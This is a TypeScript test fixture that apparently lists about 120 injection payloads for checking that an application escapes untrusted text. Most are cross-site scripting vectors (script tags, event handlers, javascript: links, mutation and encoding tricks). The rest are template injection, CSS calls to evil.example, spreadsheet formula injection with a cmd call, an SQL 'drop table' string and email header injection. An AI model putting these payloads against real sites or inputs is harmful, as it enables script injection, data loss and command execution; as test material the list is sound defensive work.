/**
 * A hundred and twenty pieces of text that become code, markup or an order wherever somebody forgets to write them as text. Each that
 * runs sets `window.__xss`; those that only slip in as markup leave an element `xss-mark`.
 */
const run = 'window.__xss=1'
const mark = '<xss-mark>'

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script type=module>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</noscript><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
]
const handlers = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror='${run}'>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x:x onerror\n=${run}>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<div onpointerenter=${run}>x</div>`,
  `<p style=animation-name:x onanimationstart=${run}>`,
  `<a onclick=${run} href=#>x</a>`,
  `<x contenteditable onblur=${run}>x</x>`,
  `<iframe onload=${run}>`,
  `<object data=x onerror=${run}>`,
  `<dialog open onclose=${run}>`,
]
const foreign = [
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x></svg>`,
  `<svg><a xlink:href=javascript:${run}><text>x</text></a></svg>`,
  `<svg><set attributeName=href to=javascript:${run}></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><a xlink:href=javascript:${run}>x</a></math>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<math href=javascript:${run}>x</math>`,
  `<math><annotation-xml encoding=text/html><img src=x onerror=${run}></annotation-xml></math>`,
]
const attributes = [
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `" autofocus onfocus=${run} x="`,
  `' autofocus onfocus=${run} x='`,
  `" onmouseover="${run}`,
  `' onmouseover='${run}`,
  `x onmouseover=${run}`,
  `"/><svg onload=${run}>`,
  `" style="x:expression(${run})`,
  `"formaction="javascript:${run}`,
  `" srcdoc="<script>parent.__xss=1</script>`,
  `\`><img src=x onerror=${run}>`,
  `&quot;><img src=x onerror=${run}>`,
]
const links = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `javascript://primer.rs/%0a${run}`,
  `java&Tab;script:${run}`,
  `&#106;avascript:${run}`,
  `\u00a0javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==`,
  `vbscript:${run}`,
  `//evil.example/${mark}`,
  `https://primer.rs/"onmouseover=${run}//`,
  `[x](javascript:${run})`,
  `![x](x "onerror=${run}")`,
  `<javascript:${run}>`,
]
const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{7*7}}${mark}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{@html '<img src=x onerror=${run}>'}`,
  `{#if true}${mark}{/if}`,
  `[[\${${run}}]]`,
  `{count, plural, other {${mark}}}`,
  `#eval("${mark}")`,
]
const styles = [
  `<style>*{background:url(javascript:${run})}</style>`,
  `<link rel=stylesheet href=javascript:${run}>`,
  `<div style="background:url(javascript:${run})">`,
  `</style><img src=x onerror=${run}>`,
  `;}*{background:url(//evil.example/__xss)}`,
  `#fff;background:url(//evil.example/__xss)`,
]
const characters = [
  `\u2028${run}//`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `\u202e>tpircs/<1=ssx__.wodniw>tpircs<`,
  `<\u200bscript>${run}</script>`,
  `<ſcript>${run}</ſcript>`,
  `\u0130<img src=x onerror=${run}>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `&#x3c;img src=x onerror=${run}&#x3e;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${run}\\x3e`,
]
const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<template><img src=x onerror=${run}></template>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<xmp><img title="</xmp><img src=x onerror=${run}>">`,
  `<a id=cookie><a id=cookie name=x>${mark}`,
]
const tables = [
  `=HYPERLINK("javascript:${run}","x")`,
  `=cmd|'/c ${mark}'!A1`,
  `@SUM(1)${mark}`,
  `x";"${mark}`,
  `x\t=1+1\t${mark}`,
  `'; drop table person; --${mark}`,
  `${mark}Bcc: neko@primer.invalid`,
]

/** All, in the order of their families. */
export const payloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...foreign,
  ...attributes,
  ...links,
  ...templates,
  ...styles,
  ...characters,
  ...mutating,
  ...tables,
]

/** Two that leave almost any place at once, short enough for the name of a person. */
export const polyglots: readonly string[] = [
  `"'></title></textarea></script><xss-mark><svg onload=${run}>`,
  `'"--></style></script><img src=x onerror=${run}>{{7*7}}\${1}`,
]
